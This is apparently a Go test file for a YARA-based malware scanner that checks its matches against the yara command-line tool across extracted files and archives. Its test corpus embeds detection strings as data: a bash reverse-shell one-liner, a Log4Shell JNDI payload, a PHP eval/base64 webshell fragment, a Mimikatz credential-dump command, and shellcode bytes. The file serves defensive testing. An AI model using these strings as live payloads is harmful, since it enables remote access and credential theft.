package scanner

import (
	"bufio"
	"bytes"
	"context"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/airlock-appliance/airlock/internal/testenv"
)

// parityCorpus writes an extracted tree (dir/tree) of generated files, some carrying strings of
// the default rules at random places (including straddling block boundaries), and the same
// files inside archives (dir/archives). It returns both directories.
func parityCorpus(t *testing.T, seed uint64) (tree, archives string) {
	t.Helper()
	rng := rand.New(rand.NewPCG(seed, 7))
	cc := rand.NewChaCha8([32]byte{byte(seed)})
	dir := t.TempDir()
	tree, archives = filepath.Join(dir, "tree"), filepath.Join(dir, "archives")
	needles := [][]byte{
		eicar(),
		[]byte("stratum+tcp://pool.example:3333"),
		[]byte("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
		[]byte("sekurlsa::logonpasswords gentilkiwi"),
		[]byte("eval(base64_decode($x));"),
		[]byte("${jndi:ldap://x/a}"),
		[]byte("This program cannot be run in DOS mode"),
		[]byte("UPX!"),
		{0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73, 0x68, 0x68, 0x2f, 0x62, 0x69, 0x6e, 0x89, 0xe3},
		[]byte("your files have been encrypted"),
	}
	var entries []entry
	for i := range 40 {
		size := rng.IntN(120 << 10)
		if i%10 == 0 {
			size = 300<<10 + rng.IntN(300<<10) // larger than the block-scan budget below
		}
		b := make([]byte, size)
		if i%2 == 0 {
			for j := range b {
				b[j] = "abcdefghij klmnop\n"[rng.IntN(18)]
			}
		} else {
			cc.Read(b)
		}
		if i%15 == 3 && len(b) > 2 { // a PE-looking file: rules with uint16(0) conditions
			b[0], b[1] = 'M', 'Z'
		}
		for k := rng.IntN(3); k > 0 && len(b) > 64; k-- {
			n := needles[rng.IntN(len(needles))]
			off := rng.IntN(len(b) - len(n))
			if i%10 == 0 { // straddle a 16 KiB block boundary
				off = (len(b)/2/(16<<10))*(16<<10) - len(n)/2
			}
			copy(b[off:], n)
		}
		if i == 7 {
			b = eicar() // at offset 0: the strict EICAR rule
		}
		name := filepath.Join("d"+string(rune('a'+i%4)), "f"+string(rune('a'+i%26))+strings.Repeat("x", i/26)+".bin")
		entries = append(entries, entry{name, b})
		writeFile(t, filepath.Join(tree, name), b)
	}
	tarball := mkTar(t, entries...)
	zipped := mkZip(t, entries...)
	writeFile(t, filepath.Join(archives, "all.tar.gz"), gz(t, tarball))
	xzed, err := cliCompress(tarball, "xz", "-T1", "-1", "-c")
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(archives, "all.tar.xz"), xzed)
	writeFile(t, filepath.Join(archives, "all.tar.zst"), zst(t, tarball))
	writeFile(t, filepath.Join(archives, "all.zip"), zipped)
	writeFile(t, filepath.Join(archives, "nested.tar.gz"), gz(t, mkTar(t, entry{"inner/all.zip", zipped})))
	return tree, archives
}

func writeFile(t testing.TB, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func defaultRules(t testing.TB) (*Rules, string) {
	t.Helper()
	p := filepath.Join(testenv.RepoRoot(), "scanner", "rules", "airlock.yar")
	r, err := CompileFiles(p)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(r.Destroy)
	return r, p
}

// yaraCLI runs the real yara -r and returns "relpath rule" pairs.
func yaraCLI(t *testing.T, rules, dir string) []string {
	t.Helper()
	out, err := exec.Command("yara", "-r", rules, dir).Output()
	if err != nil {
		t.Fatalf("yara -r: %v", err)
	}
	var pairs []string
	sc := bufio.NewScanner(bytes.NewReader(out))
	for sc.Scan() {
		rule, path, ok := strings.Cut(sc.Text(), " ")
		if !ok {
			t.Fatalf("yara output %q", sc.Text())
		}
		rel, _ := filepath.Rel(dir, path)
		pairs = append(pairs, rel+" "+rule)
	}
	sort.Strings(pairs)
	return pairs
}

// TestParityWithYaraCLI checks that the (inner file, rule) matches found inside every archive
// equal what the real yara CLI reports on the extracted files, for whole-buffer scans and for
// block scans (a budget smaller than the files, blocks of 16 KiB).
func TestParityWithYaraCLI(t *testing.T) {
	testenv.Need(t, "yara")
	tree, archives := parityCorpus(t, 1)
	rules, rulesPath := defaultRules(t)
	want := yaraCLI(t, rulesPath, tree)
	t.Logf("yara -r: %d matches", len(want))
	if len(want) < 10 {
		t.Fatalf("corpus too tame: %d matches", len(want))
	}
	for _, mode := range []struct {
		name string
		opt  Options
	}{
		{"memory", Options{}},
		{"blocks", Options{MemoryBudget: 256 << 10, BlockSize: 16 << 10, BlockOverlap: 4 << 10, TempDir: t.TempDir()}},
	} {
		t.Run(mode.name, func(t *testing.T) {
			s := New(rules, mode.opt)
			// Direct: the tree itself.
			res, err := s.ScanAll(context.Background(), os.DirFS(tree), ".")
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, r := range res {
				for _, m := range r.Rules {
					got = append(got, r.Path+" "+m.Rule)
				}
			}
			sort.Strings(got)
			if strings.Join(got, "\n") != strings.Join(want, "\n") {
				t.Errorf("direct scan differs from yara -r:\n got %q\nwant %q", got, want)
			}
			res, err = s.ScanAll(context.Background(), os.DirFS(archives), ".")
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range res {
				if w := r.Worst(); w == Unscannable || w == LimitHit {
					t.Fatalf("%s: %v", r.Path, r.Problems())
				}
				var got []string
				prefix := r.Path + "!"
				if r.Path == "nested.tar.gz" {
					prefix += "inner/all.zip!"
				}
				for _, f := range r.Inner {
					if !strings.HasPrefix(f.Path, prefix) {
						continue
					}
					for _, m := range f.Rules {
						got = append(got, strings.TrimPrefix(f.Path, prefix)+" "+m.Rule)
					}
				}
				sort.Strings(got)
				if strings.Join(got, "\n") != strings.Join(want, "\n") {
					t.Errorf("%s differs from yara -r on the extracted tree:\n got %q\nwant %q", r.Path, got, want)
				}
			}
		})
	}
}

func cliCompress(data []byte, name string, args ...string) ([]byte, error) {
	cmd := exec.Command(name, args...)
	cmd.Stdin = bytes.NewReader(data)
	return cmd.Output()
}
